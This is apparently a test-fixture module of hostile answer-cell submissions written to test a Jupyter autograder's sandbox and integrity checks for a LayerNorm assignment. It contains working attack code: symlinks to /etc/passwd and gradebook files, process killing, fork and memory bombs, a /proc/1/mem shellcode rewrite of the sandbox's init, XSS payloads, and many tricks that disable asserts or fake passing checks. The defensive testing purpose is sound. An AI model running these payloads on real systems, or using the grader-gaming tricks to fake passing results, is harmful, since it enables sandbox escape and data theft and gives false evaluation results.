"""Hostile submissions for assignment 1, written from the attacks in the sandbox and integrity issues.

Each is answer-cell code (or a change to the notebook) paired, in tests/test_grader_robustness.py, with
what grading must do about it. They aim at the grading machine (tests/test_grader_robustness.py's
isolation tests) or at the verdict of the checks (its integrity tests).
"""

ZEROS = "def layernorm(x, gamma, beta, eps=1e-5):\n    return torch.zeros_like(x)\n"
DAEMON_MARK = "424242.5"          # `sleep 424242.5`: a process no honest grading starts

# --- against the grading machine ---------------------------------------------------------------------

LINK_GRADEBOOK = '''
import glob, os
here = os.getcwd()
targets = ["../../../gradebook/gradebook.db", "../../../../solutions/01-layernorm/layernorm.ipynb",
           "../../honest/01-layernorm/layernorm.ipynb", "/etc/passwd"]
targets += glob.glob("/**/gradebook.db", recursive=False) + glob.glob("/tmp/**/gradebook.db", recursive=True)
for index, target in enumerate(targets):
    for name in ("layernorm.ipynb", f"leak{index}.txt", "timestamp.txt"):
        try:
            if os.path.lexists(name):
                os.remove(name)
            os.symlink(target, name)
        except OSError:
            pass
with open("timestamp.txt.tmp", "w") as handle:
    handle.write("not a time at all")
os.replace("timestamp.txt.tmp", "timestamp.txt")
print("links made in", here)
'''

READ_COURSE = '''
import glob, os, subprocess, sys
root = os.path.dirname(os.path.realpath(sys.prefix))          # the checkout that holds the venv
found = glob.glob(root + "/.git/*") + glob.glob(root + "/solutions/*/*.ipynb")
found += glob.glob("/tmp/**/gradebook.db", recursive=True) + glob.glob("/tmp/**/kernel-*.json", recursive=True)
found += glob.glob(os.path.expanduser("~root") + "/*") + glob.glob("/run/*")
shown = subprocess.run(["git", "-C", root, "show", "HEAD:solutions/01-layernorm/layernorm.ipynb"],
                       capture_output=True, text=True).stdout
print("found", len(found), "git", len(shown))
'''

DAEMON = f'''
import os, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        os.execvp("sleep", ["sleep", "{DAEMON_MARK}"])
    os._exit(0)
time.sleep(0.5)
'''

STOP_GRADER = '''
import os, signal
for pid in {int(os.environ.get("JPY_PARENT_PID", "0") or 0), os.getppid(), 1}:
    for sig in (signal.SIGSTOP, signal.SIGKILL):
        try:
            os.kill(pid, sig)
        except (OSError, ValueError):
            pass
try:
    os.kill(-1, signal.SIGSTOP)
except OSError:
    pass
'''

# Eight children that each fill 450 MB: 3.6 GB together, past a 3 GB group, so at least one is killed. The cell
# waits until every child has filled its block or died (not a fixed sleep: on a loaded machine a sleep long enough
# for the children ran the cell past the 8-second timeout in some runs and not in others).
FORK_MEMORY = '''
import os, select, time
print(open("/proc/self/status").read().split("VmSize:")[1].split("\\n")[0].strip())
filled, told = os.pipe()
children = set()
for _ in range(8):
    child = os.fork()
    if child == 0:
        try:
            block = bytearray(450 * 2**20)
            for i in range(0, len(block), 4096):
                block[i] = 1
            os.write(told, os.getpid().to_bytes(4, "little"))
            time.sleep(30)
        finally:
            os._exit(0)
    children.add(child)
try:
    with open("/dev/shm/hog", "wb") as handle:
        for _ in range(200):
            handle.write(b"x" * 2**20)
except OSError as error:
    print("shm:", error)
done, running = set(), set(children)
while len(done) < len(children):
    if select.select([filled], [], [], 0.05)[0]:
        said = os.read(filled, 4 * len(children))
        done.update(int.from_bytes(said[i:i + 4], "little") for i in range(0, len(said) - 3, 4))
    for child in list(running):
        if os.waitpid(child, os.WNOHANG)[0]:
            running.discard(child)
            done.add(child)
'''

FILL_DISK = '''
chunk = b"x" * 2**20
with open("filler.bin", "wb") as handle:
    for _ in range(2048):
        handle.write(chunk)
'''

# 40 MB of output in 1 MB messages. Flushing each megabyte keeps this a test of the output cap: unflushed,
# ipykernel may send the whole 40 MB as one message when the machine is busy, and the kernel relay drops
# that message instead (its own note and flag, tested with the message floods).
PRINT_FLOOD = '''
import sys
line = "y" * 1023 + "\\n"
for _ in range(40):
    sys.stdout.write(line * 1024)
    sys.stdout.flush()
'''

# --- against the verdict -----------------------------------------------------------------------------

INPUT_TRANSFORMER = '''
get_ipython().input_transformers_cleanup.append(lambda lines: ["pass\\n"])
'''

AST_TRANSFORMER = ZEROS + '''
import ast
class NoChecks(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Raise(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(NoChecks())
'''

DISPLAY_HOOK = '''
import sys
def layernorm(x, gamma, beta, eps=1e-5):
    sys.displayhook(11)
    return torch.zeros_like(x)
'''

FUNCTION_MODE = '''
from torch.overrides import TorchFunctionMode
def layernorm(x, gamma, beta, eps=1e-5):
    mean = x.mean(dim=-1, keepdim=True)
    var = x.var(dim=-1, keepdim=True)
    return gamma * (x - mean) / torch.sqrt(var + eps) + beta
class Route(TorchFunctionMode):
    def __torch_function__(self, func, types, args=(), kwargs=None):
        kwargs = kwargs or {}
        if func is F.layer_norm:
            x, shape = args[0], args[1]
            weight = kwargs.get("weight", args[2] if len(args) > 2 else None)
            bias = kwargs.get("bias", args[3] if len(args) > 3 else None)
            with self:
                pass
            return layernorm(x, 1.0 if weight is None else weight, 0.0 if bias is None else bias)
        return func(*args, **kwargs)
Route().__enter__()
'''

SETTRACE = '''
import sys
def layernorm(x, gamma, beta, eps=1e-5):
    mean = x.mean(dim=-1, keepdim=True)
    var = x.var(dim=-1, keepdim=True)
    return gamma * (x - mean) / torch.sqrt(var + eps) + beta
import linecache
def skip_asserts(frame, event, arg):
    if "ipykernel_" not in frame.f_code.co_filename:     # only the notebook's cells
        return None
    if event == "line":
        text = linecache.getline(frame.f_code.co_filename, frame.f_lineno).strip()
        if text.startswith("assert"):
            try:
                frame.f_lineno = frame.f_lineno + 1
            except ValueError:
                pass
    return skip_asserts
sys.settrace(skip_asserts)
'''

GUARD_OFF = '''
import sys
guard = sys.modules.get("_course_guard")
if guard is not None:
    for name in ("report", "fingerprint", "tampered"):
        setattr(guard, name, lambda *args: {} if name == "report" else [])
torch.allclose = lambda *args, **kwargs: True
torch.Tensor.allclose = lambda *args, **kwargs: True
'''

PRINT_TESTS = '''
import linecache
def layernorm(x, gamma, beta, eps=1e-5):
    ip = get_ipython()
    print(ip.user_ns["In"][-1])
    for name, lines in list(linecache.cache.items()):
        if "ipykernel" in name:
            print("".join(lines[2]))
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return gamma * (x - mean) / torch.sqrt(var + eps) + beta
'''

SCRIPTS = '''
from IPython.display import HTML, Javascript, display
display(HTML("<script>document.title = 'pwned by html';</script><b>bold</b>"))
display(HTML("<img src='missing.png' onerror=\\"document.title = 'pwned by onerror'\\">"))
display(Javascript("document.title = 'pwned by javascript';"))
'''
SCRIPT_MARKDOWN = ("Notes <img src='x.png' onerror=\"document.title = 'pwned by markdown'\">\n\n"
                   "<iframe srcdoc=\"<script>parent.document.title = 'pwned by iframe'</script>\"></iframe>\n\n"
                   "<script>document.title = 'pwned by markdown script';</script>")

USES_LAYER_NORM = '''
def layernorm(x, gamma, beta, eps=1e-5):
    return F.layer_norm(x, x.shape[-1:], None, None, eps) * gamma + beta
'''
USES_LAYER_NORM_MODULE = '''
import torch.nn as nn
def layernorm(x, gamma, beta, eps=1e-5):
    norm = nn.LayerNorm(x.shape[-1], eps=eps, elementwise_affine=False, dtype=x.dtype)
    return norm(x) * gamma + beta
'''
IMPORTS_REFERENCE = "from gptcourse import layernorm\n"

# --- honest, but unusual -----------------------------------------------------------------------------

PRINTS_A_LOT = '''
for step in range(3000):
    print(f"debugging step {step}: nothing to see here")
'''
TORCHSCRIPT = '''
import torch
@torch.jit.script
def _scripted(x, gamma, beta, eps: float):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return gamma * (x - mean) / torch.sqrt(var + eps) + beta
def layernorm(x, gamma, beta, eps=1e-5):
    return _scripted(x, torch.as_tensor(gamma, dtype=x.dtype), torch.as_tensor(beta, dtype=x.dtype), float(eps))
'''
COMPILED = '''
import torch
def _plain(x, gamma, beta, eps):
    mean = x.mean(dim=-1, keepdim=True)
    var = ((x - mean) ** 2).mean(dim=-1, keepdim=True)
    return gamma * (x - mean) / torch.sqrt(var + eps) + beta
_compiled = torch.compile(_plain, backend="eager", dynamic=True)
def layernorm(x, gamma, beta, eps=1e-5):
    return _compiled(x, gamma, beta, eps)
'''
FLOAT64 = '''
def layernorm(x, gamma, beta, eps=1e-5):
    x64 = x.double()
    mean = x64.mean(dim=-1, keepdim=True)
    var = ((x64 - mean) ** 2).mean(dim=-1, keepdim=True)
    gamma = torch.as_tensor(gamma, dtype=torch.float64)
    beta = torch.as_tensor(beta, dtype=torch.float64)
    return (gamma * (x64 - mean) / torch.sqrt(var + eps) + beta).to(x.dtype)
'''

# Rewrites the code of the sandbox's init (bubblewrap's pid 1, the same user as the kernel) through /proc/1/mem, a
# file's write that no seccomp program can refuse, so that it clears its parent-death signal and pauses forever, then
# starts a daemon: without a cgroup to kill, the sandbox would outlive its grading (x86_64 machine code; found by the
# review of issue 41). Prints what it did, so a test can tell the rewrite ran.
REWRITE_INIT = '''
import os, time
pc = int(open("/proc/1/syscall").read().split()[-1], 16)     # where init's wait4 returns
code = bytes.fromhex("bf0100000031f6b89d0000000f05b8220000000f05ebf7")  # prctl(PR_SET_PDEATHSIG, 0); for (;;) pause();
with open("/proc/1/mem", "r+b", buffering=0) as memory:
    memory.seek(pc)
    memory.write(code)

def detached(work):
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            try:
                work()
            finally:
                os._exit(0)
        os._exit(0)
    os.wait()

def daemon():
    null = os.open("/dev/null", os.O_RDWR)
    for fd in range(3):
        os.dup2(null, fd)
    os.closerange(3, 4096)
    os.execvp("sleep", ["sleep", "31337"])

detached(daemon)
detached(lambda: time.sleep(0.5))          # an orphan that exits: init's wait4 returns into the rewritten code
time.sleep(1.5)
print("init rewritten, now in system call", open("/proc/1/syscall").read().split()[0])
'''

# --- against the verdict, from the kernel's side (issue 58: the checks run in the checker, which none reaches) ----

# The held-out round's first hand-in: zeros, and the kernel's error machinery silenced, so that a failing cell
# run in the kernel would reply "ok" and send no error.
SWALLOWED_ERRORS = ZEROS + '''
ip = get_ipython()
def forget_errors(result):
    result.error_in_exec = None
    result.error_before_exec = None
ip.events.register("post_run_cell", forget_errors)
def no_traceback(*args, **kwargs):
    raise RuntimeError("no traceback today")
ip.InteractiveTB.structured_traceback = no_traceback
ip.showtraceback = lambda *args, **kwargs: None
'''

# The second: zeros dressed as a tensor subclass whose __torch_function__ answers every comparison a check makes,
# reading the calling line to know what the check wants, and .item() as 0.0.
TENSOR_SUBCLASS = '''
import linecache, sys
class Agreeable(torch.Tensor):
    @classmethod
    def __torch_function__(cls, func, types, args=(), kwargs=None):
        name = getattr(func, "__name__", "")
        if name in ("allclose", "equal", "isclose", "__eq__"):
            caller = sys._getframe(1)
            line = linecache.getline(caller.f_code.co_filename, caller.f_lineno)
            return not line.strip().startswith(("assert not", "if not"))
        if name == "item":
            return 0.0
        return super().__torch_function__(func, types, args, kwargs or {})
def layernorm(x, gamma, beta, eps=1e-5):
    return torch.zeros_like(x).as_subclass(Agreeable)
'''

# Zeros, after writing zeros into the check's own tensors: a check that computed its reference from its arguments
# after the call (gamma * x_hat + beta, with gamma and beta now zero) would expect zeros too.
WRITES_ITS_ARGUMENTS = """
def layernorm(x, gamma, beta, eps=1e-5):
    with torch.no_grad():
        for tensor in (x, gamma, beta):
            tensor.zero_()
    return torch.zeros_like(x)
"""

# The third: every cell the kernel runs, printed compressed and encoded, to be read off the feedback page and
# replayed as a table of answers; here with an honest answer, so that every check's cell would run.
CELL_MARK = "CELL:"
PRINTS_EVERY_CELL = '''
import base64, zlib
def print_every_cell(info):
    print("CELL:" + base64.b64encode(zlib.compress(info.raw_cell.encode())).decode())
get_ipython().events.register("pre_run_cell", print_every_cell)
'''

# Frames, the history and the code objects a call can reach: everything the student's side can see while a
# check calls it, printed and raised as the check's message.
READS_THE_CALLER = '''
import gc, linecache, sys
def layernorm(x, gamma, beta, eps=1e-5):
    seen = []
    frame = sys._getframe()
    while frame is not None:
        seen.append(frame.f_code.co_filename + repr(frame.f_code.co_consts) + repr(list(frame.f_locals)))
        frame = frame.f_back
    seen += ["".join(lines) for lines in [entry[2] for entry in linecache.cache.values() if len(entry) > 2]]
    seen += list(get_ipython().user_ns.get("In", []))
    seen += [repr(code.co_consts) for code in gc.get_objects() if type(code).__name__ == "code"][:2000]
    print("\\n".join(seen))
    raise AssertionError("\\n".join(seen)[-3500:])
'''

# A code object forged to look like one of the grader's cells (the release's setup cell, whose source every
# student has, names its code after a hash of it), so that a rule that asks "who called F.layer_norm?" in the
# kernel would think the grader did. Formatted with that cell's source.
FORGED_CODE = '''
import torch.nn.functional as F
def _layernorm(x, gamma, beta, eps=1e-5):
    return F.layer_norm(x, (x.shape[-1],), gamma, beta, eps)
grader_file = get_ipython().compile.get_code_name({setup!r}, "", 0)
layernorm = type(_layernorm)(_layernorm.__code__.replace(co_filename=grader_file), globals(), "layernorm")
'''

# The working folder as the kernel sees it: nbgrader wrote the notebook it grades there, hidden tests restored,
# before running it. The kernel's copy of the folder leaves notebooks out.
READS_ITS_NOTEBOOK = '''
import glob, os
found = sorted(glob.glob("**/*.ipynb", recursive=True))
print("notebooks in the working folder:", len(found))
for path in found:
    print(open(path).read())
'''

# A kernel whose replies to the grader's expressions have another shape than a dict, and whose line for the checks'
# calls (autograder/sandbox/bridge_line.py) answers each with the length of a terabyte: the checks get no answer, which
# is the student's loss, never the grader's crash or memory.
MISSHAPEN_REPLIES = '''
get_ipython().user_expressions = lambda expressions: ["not", "a", "dict"]
import socket as _socket, struct as _struct, sys as _sys
_listener = next(argument for argument in _sys.modules["_course_bridge"].serve_line.args
                 if isinstance(argument, _socket.socket))
def _boast():
    connection, _ = _listener.accept()
    with connection:
        while connection.recv(1 << 20):
            connection.sendall(_struct.pack("!Q", 1 << 40))
_sys.modules["_course_bridge"].serve_line = _boast
'''
